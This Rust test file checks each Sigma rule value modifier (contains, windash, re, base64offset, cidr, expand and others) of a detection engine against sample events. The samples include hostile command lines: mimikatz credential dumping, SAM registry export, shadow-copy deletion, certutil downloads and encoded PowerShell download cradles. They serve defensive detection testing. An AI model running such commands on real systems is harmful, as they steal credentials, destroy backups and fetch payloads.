//! Every value modifier of the Sigma modifiers appendix (v2.1), each with a positive and a
//! negative case, through both matching paths.

use std::collections::BTreeMap;

use vigil_event::Value;
use vigil_sigma::{Detector, Placeholders, Routing, RuleSet};

use crate::harness::{base64, check, hits, proc, proc_with, rule_yaml, utf16be, utf16le};

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

// --- Generic modifiers ------------------------------------------------------------------

#[test]
fn contains_matches_anywhere() {
    check(
        r"
        selection:
            CommandLine|contains: 'sekurlsa::'
        condition: selection
        ",
        &[
            proc(&[("CommandLine", "mimikatz.exe sekurlsa::logonpasswords exit")]),
            proc(&[("CommandLine", "sekurlsa::")]),
        ],
        &[proc(&[("CommandLine", "mimikatz.exe lsadump::sam exit")])],
    );
}

#[test]
fn startswith_matches_the_beginning_only() {
    check(
        r"
        selection:
            CommandLine|startswith: 'net user '
        condition: selection
        ",
        &[proc(&[("CommandLine", "net user admin P@ss /add")])],
        &[proc(&[("CommandLine", "cmd /c net user admin P@ss /add")])],
    );
}

#[test]
fn endswith_matches_the_end_only() {
    check(
        r"
        selection:
            Image|endswith: '\rundll32.exe'
        condition: selection
        ",
        &[proc(&[("Image", r"C:\Windows\System32\rundll32.exe")])],
        &[proc(&[("Image", r"C:\Windows\System32\rundll32.exe.bak")])],
    );
}

#[test]
fn contains_keeps_the_wildcards_inside_the_value() {
    check(
        r"
        selection:
            CommandLine|contains: 'reg* save HKLM\sam'
        condition: selection
        ",
        &[
            proc(&[("CommandLine", r"cmd /c reg.exe save HKLM\sam C:\t\s")]),
            proc(&[("CommandLine", r"reg save hklm\SAM x")]),
        ],
        &[proc(&[(
            "CommandLine",
            r"cmd /c reg.exe export HKLM\sam x",
        )])],
    );
}

#[test]
fn startswith_and_endswith_lists_are_or() {
    check(
        r"
        selection:
            ParentImage|endswith:
                - '\winword.exe'
                - '\excel.exe'
            CommandLine|startswith:
                - 'cmd'
                - 'powershell'
        condition: selection
        ",
        &[
            proc(&[
                ("ParentImage", r"C:\Office\EXCEL.EXE"),
                ("CommandLine", "powershell -c x"),
            ]),
            proc(&[
                ("ParentImage", r"C:\Office\winword.exe"),
                ("CommandLine", "cmd /c x"),
            ]),
        ],
        &[proc(&[
            ("ParentImage", r"C:\Office\outlook.exe"),
            ("CommandLine", "cmd /c x"),
        ])],
    );
}

#[test]
fn contains_all_requires_every_value() {
    check(
        r"
        selection:
            CommandLine|contains|all:
                - ' -w hidden '
                - ' -enc '
        condition: selection
        ",
        &[proc(&[(
            "CommandLine",
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
        )])],
        &[proc(&[(
            "CommandLine",
            "powershell.exe -nop -w hidden -c calc",
        )])],
    );
}

#[test]
fn all_order_in_the_value_does_not_matter() {
    check(
        r"
        selection:
            CommandLine|contains|all:
                - 'shadowcopy'
                - 'delete'
        condition: selection
        ",
        &[
            proc(&[("CommandLine", "wmic shadowcopy delete")]),
            proc(&[(
                "CommandLine",
                "vssadmin delete shadows /all; wmic SHADOWCOPY",
            )]),
        ],
        &[proc(&[("CommandLine", "wmic shadowcopy list")])],
    );
}

#[test]
fn all_with_a_single_value_is_rejected() {
    // Modifiers appendix, `all`: "Single item values are not allowed to have an `all`
    // modifier as some back-ends cannot support it."
    let yaml = rule_yaml(
        "All with one value",
        r"
        selection:
            CommandLine|contains|all: 'whoami'
        condition: selection
        ",
    );
    let (rules, report) = RuleSet::from_yaml("all.yml", &yaml, None);
    assert_eq!(rules.len(), 0, "{report:#?}");
    assert_eq!(report.failed.len(), 1);
    assert!(
        report.failed[0].reason.contains("all"),
        "{:?}",
        report.failed[0]
    );
}

#[test]
fn exists_true_requires_the_field_even_when_empty() {
    // "this check only verifies the presence of a field, not its value, be it empty or null"
    check(
        r"
        selection:
            EventID: 4738
            PasswordLastSet|exists: true
        condition: selection
        ",
        &[
            proc_with(vec![
                ("EventID", Value::from(4738_i64)),
                ("PasswordLastSet", Value::from("2024-01-01")),
            ]),
            proc_with(vec![
                ("EventID", Value::from(4738_i64)),
                ("PasswordLastSet", Value::from("")),
            ]),
        ],
        &[proc_with(vec![("EventID", Value::from(4738_i64))])],
    );
}

#[test]
fn exists_true_holds_for_a_field_whose_value_is_null() {
    check(
        r"
        selection:
            PasswordLastSet|exists: true
        condition: selection
        ",
        &[proc_with(vec![("PasswordLastSet", Value::Null)])],
        &[proc_with(vec![("EventID", Value::from(4738_i64))])],
    );
}

#[test]
fn exists_false_does_not_hold_for_a_field_whose_value_is_null() {
    check(
        r"
        selection:
            EventID: 4738
            PasswordLastSet|exists: false
        condition: selection
        ",
        &[proc_with(vec![("EventID", Value::from(4738_i64))])],
        &[proc_with(vec![
            ("EventID", Value::from(4738_i64)),
            ("PasswordLastSet", Value::Null),
        ])],
    );
}

#[test]
fn exists_finds_a_field_under_its_log_source_name() {
    // Security 4688 keeps the `Image` of a process_creation rule as `NewProcessName`.
    let security = |fields: Vec<(&str, Value)>| {
        crate::harness::event_in(
            Some("windows"),
            Some("security"),
            Some("process_creation"),
            fields,
        )
    };
    check(
        r"
        selection:
            Image|exists: true
        condition: selection
        ",
        &[
            security(vec![("NewProcessName", Value::from(r"C:\x.exe"))]),
            security(vec![("NewProcessName", Value::Null)]),
        ],
        &[security(vec![("CommandLine", Value::from("x"))])],
    );
}

#[test]
fn exists_false_requires_the_field_to_be_absent() {
    check(
        r"
        selection:
            EventID: 4738
            PasswordLastSet|exists: false
        condition: selection
        ",
        &[proc_with(vec![("EventID", Value::from(4738_i64))])],
        &[
            proc_with(vec![
                ("EventID", Value::from(4738_i64)),
                ("PasswordLastSet", Value::from("2024-01-01")),
            ]),
            proc_with(vec![
                ("EventID", Value::from(4738_i64)),
                ("PasswordLastSet", Value::from("")),
            ]),
        ],
    );
}

#[test]
fn cased_matches_case_sensitively() {
    check(
        r"
        selection:
            CommandLine|cased|contains: 'Invoke-Mimikatz'
        condition: selection
        ",
        &[proc(&[(
            "CommandLine",
            "powershell IEX; Invoke-Mimikatz -DumpCreds",
        )])],
        &[proc(&[(
            "CommandLine",
            "powershell IEX; invoke-mimikatz -DumpCreds",
        )])],
    );
}

#[test]
fn cased_applies_to_plain_values_too() {
    check(
        r"
        selection:
            ServiceName|cased: 'PSEXESVC'
        condition: selection
        ",
        &[proc(&[("ServiceName", "PSEXESVC")])],
        &[proc(&[("ServiceName", "psexesvc")])],
    );
}

#[test]
fn neq_matches_other_values() {
    check(
        r"
        selection:
            EventID: 4624
            LogonType|neq: 3
        condition: selection
        ",
        &[proc_with(vec![
            ("EventID", Value::from(4624_i64)),
            ("LogonType", Value::from(10_i64)),
        ])],
        &[proc_with(vec![
            ("EventID", Value::from(4624_i64)),
            ("LogonType", Value::from(3_i64)),
        ])],
    );
}

// --- windash ----------------------------------------------------------------------------

#[test]
fn windash_accepts_every_dash_and_the_slash() {
    let yes: Vec<_> = ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"]
        .iter()
        .map(|dash| {
            proc(&[(
                "CommandLine",
                &format!("powershell.exe {dash}ep bypass {dash}file x.ps1"),
            )])
        })
        .collect();
    check(
        r"
        selection:
            CommandLine|windash|contains: ' -ep bypass '
        condition: selection
        ",
        &yes,
        &[
            proc(&[("CommandLine", "powershell.exe ep bypass -file x.ps1")]),
            proc(&[("CommandLine", "powershell.exe _ep bypass -file x.ps1")]),
        ],
    );
}

#[test]
fn windash_on_a_slash_value_accepts_a_dash() {
    check(
        r"
        selection:
            CommandLine|windash|contains: ' /c '
        condition: selection
        ",
        &[
            proc(&[("CommandLine", "cmd.exe /c whoami")]),
            proc(&[("CommandLine", "cmd.exe -c whoami")]),
        ],
        &[proc(&[("CommandLine", "cmd.exe /k whoami")])],
    );
}

// --- Regular expressions ----------------------------------------------------------------

#[test]
fn re_is_case_sensitive_by_default() {
    check(
        r"
        selection:
            CommandLine|re: '\$[a-z]{3}=New-Object'
        condition: selection
        ",
        &[proc(&[("CommandLine", "$wcx=New-Object Net.WebClient")])],
        &[
            proc(&[("CommandLine", "$WCX=New-Object Net.WebClient")]),
            proc(&[("CommandLine", "$wcx=new-object Net.WebClient")]),
        ],
    );
}

#[test]
fn re_is_unanchored() {
    check(
        r"
        selection:
            CommandLine|re: 'certutil(\.exe)? .*-urlcache'
        condition: selection
        ",
        &[proc(&[(
            "CommandLine",
            "cmd /c certutil.exe -f -urlcache http://x/p.exe p.exe",
        )])],
        &[proc(&[("CommandLine", "cmd /c certutil.exe -decode a b")])],
    );
}

#[test]
fn re_i_is_case_insensitive() {
    check(
        r"
        selection:
            CommandLine|re|i: '\$[a-z]{3}=new-object'
        condition: selection
        ",
        &[proc(&[("CommandLine", "$WCX=New-Object Net.WebClient")])],
        &[proc(&[("CommandLine", "$WC=New-Object Net.WebClient")])],
    );
}

#[test]
fn re_m_anchors_at_lines() {
    let text = "first line\nInvoke-Expression $x\nlast line";
    check(
        r"
        selection:
            ScriptBlockText|re|m: '^Invoke-Expression .*$'
        condition: selection
        ",
        &[proc(&[("ScriptBlockText", text)])],
        &[proc(&[(
            "ScriptBlockText",
            "first line\n  Invoke-Expression $x\n",
        )])],
    );
    // Without `m`, `^` is the start of the text only.
    check(
        r"
        selection:
            ScriptBlockText|re: '^Invoke-Expression'
        condition: selection
        ",
        &[proc(&[(
            "ScriptBlockText",
            "Invoke-Expression $x\nlast line",
        )])],
        &[proc(&[("ScriptBlockText", text)])],
    );
}

#[test]
fn re_s_lets_the_dot_match_newlines() {
    let text = "$a = 'x'\nIEX $a";
    check(
        r"
        selection:
            ScriptBlockText|re|s: '\$a = .*IEX'
        condition: selection
        ",
        &[proc(&[("ScriptBlockText", text)])],
        &[proc(&[("ScriptBlockText", "$b = 'x'\nIEX $b")])],
    );
    check(
        r"
        selection:
            ScriptBlockText|re: '\$a = .*IEX'
        condition: selection
        ",
        &[proc(&[("ScriptBlockText", "$a = 'x'; IEX $a")])],
        &[proc(&[("ScriptBlockText", text)])],
    );
}

#[test]
fn re_list_is_or() {
    check(
        r"
        selection:
            CommandLine|re:
                - 'vssadmin(\.exe)? delete shadows'
                - 'wmic(\.exe)? shadowcopy delete'
        condition: selection
        ",
        &[
            proc(&[("CommandLine", "vssadmin delete shadows /all /quiet")]),
            proc(&[("CommandLine", "wmic.exe shadowcopy delete")]),
        ],
        &[proc(&[("CommandLine", "vssadmin list shadows")])],
    );
}

// --- Encodings --------------------------------------------------------------------------

#[test]
fn base64_matches_the_encoded_value() {
    let encoded = base64(b"http://");
    check(
        r"
        selection:
            CommandLine|base64|contains: 'http://'
        condition: selection
        ",
        &[proc(&[(
            "CommandLine",
            &format!("python -c exec('{encoded}')"),
        )])],
        &[
            proc(&[("CommandLine", "python -c exec('http://')")]),
            proc(&[("CommandLine", &format!("x {}", base64(b"https://")))]),
        ],
    );
}

#[test]
fn base64_without_contains_matches_the_whole_value() {
    let encoded = base64(b"whoami");
    check(
        r"
        selection:
            Payload|base64: 'whoami'
        condition: selection
        ",
        &[proc(&[("Payload", &encoded)])],
        &[proc(&[("Payload", &format!("{encoded}AA"))])],
    );
}

/// Events whose `CommandLine` carries `text` Base64-encoded after prefixes of 0, 1 and 2
/// characters, putting it at all three offsets of a Base64 group.
fn encoded_at_every_offset(text: &str, encode: fn(&str) -> Vec<u8>) -> Vec<vigil_event::Event> {
    ["", "a", "ab"]
        .iter()
        .map(|prefix| {
            let encoded = base64(&encode(&format!("{prefix}{text}")));
            proc(&[
                ("Image", POWERSHELL),
                ("CommandLine", &format!("powershell.exe -enc {encoded}")),
            ])
        })
        .collect()
}

fn utf8(text: &str) -> Vec<u8> {
    text.as_bytes().to_vec()
}

fn utf16le_of(text: &str) -> Vec<u8> {
    utf16le(text)
}

const BASE64OFFSET: &str = r"
    selection:
        CommandLine|base64offset|contains: 'Invoke-Mimikatz'
    condition: selection
    ";

fn base64offset_misses() -> Vec<vigil_event::Event> {
    vec![
        proc(&[(
            "CommandLine",
            &format!("powershell -e {}", base64(b"Invoke-WebRequest http://x")),
        )]),
        proc(&[("CommandLine", "powershell Invoke-Mimikatz")]),
    ]
}

#[test]
fn base64offset_finds_the_value_at_offset_zero() {
    // 15 bytes at offset 0 fill five whole Base64 groups: no partial group at either end.
    let events = encoded_at_every_offset("Invoke-Mimikatz -DumpCreds", utf8);
    check(BASE64OFFSET, &events[..1], &base64offset_misses());
}

#[test]
fn base64offset_finds_the_value_at_all_three_offsets() {
    // "There are three variants for shifts by zero to two bytes and except the first and
    // last byte the encoded values have a static part in the middle that can be
    // recognized."
    let events = encoded_at_every_offset("Invoke-Mimikatz -DumpCreds", utf8);
    check(BASE64OFFSET, &events, &base64offset_misses());
}

const WIDE_BASE64OFFSET: &str = r"
    selection:
        CommandLine|wide|base64offset|contains: 'IEX (N'
    condition: selection
    ";

fn wide_base64offset_misses() -> Vec<vigil_event::Event> {
    vec![
        // The same text, Base64 of UTF-8 rather than UTF-16LE.
        proc(&[
            ("Image", POWERSHELL),
            (
                "CommandLine",
                &format!(
                    "powershell.exe -enc {}",
                    base64(b"IEX (New-Object Net.WebClient)")
                ),
            ),
        ]),
        proc(&[
            ("Image", POWERSHELL),
            (
                "CommandLine",
                &format!("powershell.exe -enc {}", base64(&utf16le("Get-Date"))),
            ),
        ]),
    ]
}

#[test]
fn wide_base64offset_finds_an_encoded_command_at_offset_zero() {
    // As SigmaHQ uses it: `-EncodedCommand` is Base64 of UTF-16LE text. Six characters
    // are twelve bytes, four whole groups at offset 0.
    let events = encoded_at_every_offset("IEX (New-Object Net.WebClient)", utf16le_of);
    check(WIDE_BASE64OFFSET, &events[..1], &wide_base64offset_misses());
}

#[test]
fn wide_base64offset_finds_encoded_commands_at_all_three_offsets() {
    // Prefixes of 0, 1 and 2 UTF-16 characters are 0, 2 and 4 bytes: offsets 0, 2 and 1.
    let events = encoded_at_every_offset("IEX (New-Object Net.WebClient)", utf16le_of);
    check(WIDE_BASE64OFFSET, &events, &wide_base64offset_misses());
    let events = encoded_at_every_offset("Invoke-Expression $x", utf16le_of);
    check(
        r"
        selection:
            CommandLine|wide|base64offset|contains: 'Invoke-Expression'
        condition: selection
        ",
        &events,
        &wide_base64offset_misses(),
    );
}

#[test]
fn utf16le_is_wide() {
    let encoded = base64(&utf16le("cmd"));
    check(
        r"
        selection:
            Payload|utf16le|base64: 'cmd'
        condition: selection
        ",
        &[proc(&[("Payload", &encoded)])],
        &[
            proc(&[("Payload", &base64(b"cmd"))]),
            proc(&[("Payload", &base64(&utf16be("cmd")))]),
        ],
    );
}

#[test]
fn utf16be_encodes_big_endian() {
    let encoded = base64(&utf16be("cmd"));
    check(
        r"
        selection:
            Payload|utf16be|base64: 'cmd'
        condition: selection
        ",
        &[proc(&[("Payload", &encoded)])],
        &[proc(&[("Payload", &base64(&utf16le("cmd")))])],
    );
}

#[test]
fn utf16_prepends_a_byte_order_mark() {
    // The appendix: `cmd` > `FF FE 63 00 6d 00 64 00`.
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(utf16le("cmd"));
    check(
        r"
        selection:
            Payload|utf16|base64: 'cmd'
        condition: selection
        ",
        &[proc(&[("Payload", &base64(&bytes))])],
        &[proc(&[("Payload", &base64(&utf16le("cmd")))])],
    );
}

// --- IP ---------------------------------------------------------------------------------

#[test]
fn cidr_matches_ipv4_networks() {
    check(
        r"
        selection:
            DestinationIp|cidr:
                - '10.0.0.0/8'
                - '192.168.0.0/16'
        condition: selection
        ",
        &[
            proc(&[("DestinationIp", "10.1.2.3")]),
            proc(&[("DestinationIp", "192.168.255.1")]),
        ],
        &[
            proc(&[("DestinationIp", "11.0.0.1")]),
            proc(&[("DestinationIp", "192.169.0.1")]),
            proc(&[("DestinationIp", "not an address")]),
        ],
    );
}

#[test]
fn cidr_matches_ipv6_networks() {
    check(
        r"
        selection:
            DestinationIp|cidr: 'fe80::/10'
        condition: selection
        ",
        &[
            proc(&[("DestinationIp", "fe80::1")]),
            proc(&[("DestinationIp", "FEBF::abcd:1")]),
        ],
        &[
            proc(&[("DestinationIp", "2001:db8::1")]),
            proc(&[("DestinationIp", "10.0.0.1")]),
        ],
    );
}

// --- Comparisons ------------------------------------------------------------------------

#[test]
fn lt_and_lte_compare_numbers() {
    let port = |p: i64| proc_with(vec![("DestinationPort", Value::from(p))]);
    check(
        r"
        selection:
            DestinationPort|lt: 1024
        condition: selection
        ",
        &[port(1023), port(0)],
        &[port(1024), port(8080)],
    );
    check(
        r"
        selection:
            DestinationPort|lte: 1024
        condition: selection
        ",
        &[port(1024), port(22)],
        &[port(1025)],
    );
}

#[test]
fn gt_and_gte_compare_numbers() {
    let size = |n: i64| proc_with(vec![("FileSize", Value::from(n))]);
    check(
        r"
        selection:
            FileSize|gt: 1000000
        condition: selection
        ",
        &[size(1_000_001)],
        &[size(1_000_000), size(5)],
    );
    check(
        r"
        selection:
            FileSize|gte: 1000000
        condition: selection
        ",
        &[size(1_000_000), size(2_000_000)],
        &[size(999_999)],
    );
}

#[test]
fn comparisons_read_numbers_written_as_text() {
    // Windows event data is text: `LogonType` arrives as "10".
    check(
        r"
        selection:
            LogonType|gte: 10
        condition: selection
        ",
        &[proc(&[("LogonType", "10")]), proc(&[("LogonType", "11")])],
        &[proc(&[("LogonType", "3")]), proc(&[("LogonType", "ten")])],
    );
}

#[test]
fn comparisons_compare_fractions() {
    let score = |x: f64| proc_with(vec![("Score", Value::from(x))]);
    check(
        r"
        selection:
            Score|gt: 0.5
        condition: selection
        ",
        &[score(0.75)],
        &[score(0.25), score(0.5)],
    );
}

// --- Time -------------------------------------------------------------------------------

#[test]
fn hour_extracts_the_hour_of_a_timestamp() {
    check(
        r"
        selection:
            UtcTime|hour: 3
        condition: selection
        ",
        &[proc(&[("UtcTime", "2024-07-10T03:12:45Z")])],
        &[proc(&[("UtcTime", "2024-07-10T13:12:45Z")])],
    );
}

// --- Field references -------------------------------------------------------------------

#[test]
fn fieldref_compares_two_fields_of_the_event() {
    check(
        r"
        selection:
            EventID: 4624
            TargetUserName|fieldref: SubjectUserName
        condition: selection
        ",
        &[proc_with(vec![
            ("EventID", Value::from(4624_i64)),
            ("TargetUserName", Value::from("alice")),
            ("SubjectUserName", Value::from("alice")),
        ])],
        &[
            proc_with(vec![
                ("EventID", Value::from(4624_i64)),
                ("TargetUserName", Value::from("alice")),
                ("SubjectUserName", Value::from("bob")),
            ]),
            proc_with(vec![
                ("EventID", Value::from(4624_i64)),
                ("TargetUserName", Value::from("alice")),
            ]),
        ],
    );
}

#[test]
fn fieldref_with_startswith_uses_the_other_field_as_a_prefix() {
    check(
        r"
        selection:
            CommandLine|fieldref|startswith: Image
        condition: selection
        ",
        &[proc(&[
            ("Image", r"C:\Temp\x.exe"),
            ("CommandLine", r"C:\Temp\x.exe --run"),
        ])],
        &[proc(&[
            ("Image", r"C:\Temp\x.exe"),
            ("CommandLine", r"cmd /c C:\Temp\x.exe --run"),
        ])],
    );
}

// --- Placeholders -----------------------------------------------------------------------

fn admins() -> Placeholders {
    Placeholders::new(BTreeMap::from([(
        "Administrators".to_string(),
        vec!["admin".to_string(), "adm_*".to_string()],
    )]))
}

fn expand_rule() -> String {
    rule_yaml(
        "Admin runs a shell",
        r"
        selection:
            Image|endswith: '\cmd.exe'
            User|expand: '%Administrators%'
        condition: selection
        ",
    )
}

#[test]
fn expand_replaces_the_placeholder_with_its_values() {
    let (rules, report) = RuleSet::from_yaml("expand.yml", &expand_rule(), Some(&admins()));
    assert!(report.failed.is_empty(), "{report:#?}");
    let detector = Detector::new(rules, Routing::builtin().unwrap());
    let cmd = r"C:\Windows\System32\cmd.exe";
    for user in ["admin", "ADMIN", "adm_bob"] {
        assert!(
            hits(&detector, &proc(&[("Image", cmd), ("User", user)])),
            "{user}"
        );
    }
    for user in ["bob", "%Administrators%", "administrator"] {
        assert!(
            !hits(&detector, &proc(&[("Image", cmd), ("User", user)])),
            "{user}"
        );
    }
}

#[test]
fn expand_without_placeholder_values_fails_naming_the_placeholder() {
    // "If the tool isn't able to handle placeholders, it must reject the rule."
    let (rules, report) = RuleSet::from_yaml("expand.yml", &expand_rule(), None);
    assert!(rules.is_empty());
    assert_eq!(report.failed.len(), 1, "{report:#?}");
    let failure = &report.failed[0];
    assert!(failure.reason.contains("%Administrators%"), "{failure:?}");
    assert_eq!(failure.path, "expand.yml");
    assert!(failure.id.is_some());

    let other = Placeholders::new(BTreeMap::from([(
        "Servers".to_string(),
        vec!["srv*".to_string()],
    )]));
    let (rules, report) = RuleSet::from_yaml("expand.yml", &expand_rule(), Some(&other));
    assert!(rules.is_empty());
    assert!(
        report.failed[0].reason.contains("%Administrators%"),
        "{report:#?}"
    );
}

#[test]
fn a_percent_sign_without_expand_is_literal_text() {
    check(
        r"
        selection:
            CommandLine|contains: '%APPDATA%\'
        condition: selection
        ",
        &[proc(&[("CommandLine", r"copy x.exe %APPDATA%\x.exe")])],
        &[proc(&[(
            "CommandLine",
            r"copy x.exe C:\Users\bob\AppData\x.exe",
        )])],
    );
}

#[test]
fn expand_leaves_an_escaped_percent_sign_plain() {
    // "`field|expand: \%plain%name%` handles `%plain` as plain value and `%name%` as
    // placeholder."
    let yaml = rule_yaml(
        "Escaped percent",
        r"
        selection:
            ShareName|expand: '\%share%Administrators%'
        condition: selection
        ",
    );
    let (rules, report) = RuleSet::from_yaml("expand.yml", &yaml, Some(&admins()));
    assert!(report.failed.is_empty(), "{report:#?}");
    let detector = Detector::new(rules, Routing::builtin().unwrap());
    assert!(hits(&detector, &proc(&[("ShareName", "%shareadmin")])));
    assert!(!hits(
        &detector,
        &proc(&[("ShareName", "%shareAdministrators%")])
    ));
}
